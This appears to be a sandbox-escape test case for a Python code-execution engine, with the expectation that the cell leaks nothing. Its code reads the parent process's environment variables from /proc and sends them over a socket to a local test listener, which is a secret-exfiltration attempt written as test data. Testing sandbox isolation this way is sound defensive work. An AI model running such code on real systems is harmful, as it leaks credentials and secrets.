# backends: python
# class: network
# expect: no connection reaches the harness listener; engine lives; next cell runs; nothing secret leaves

cfg = dict(l.split('=', 1) for l in context.splitlines() if '=' in l)

import os, socket
data = b''
try:
    data = open('/proc/%d/environ' % os.getppid(), 'rb').read()
except Exception as e:
    data = repr(e).encode()
s = socket.create_connection(('127.0.0.1', int(cfg['port'])), timeout=3)
s.sendall(data)
s.close()
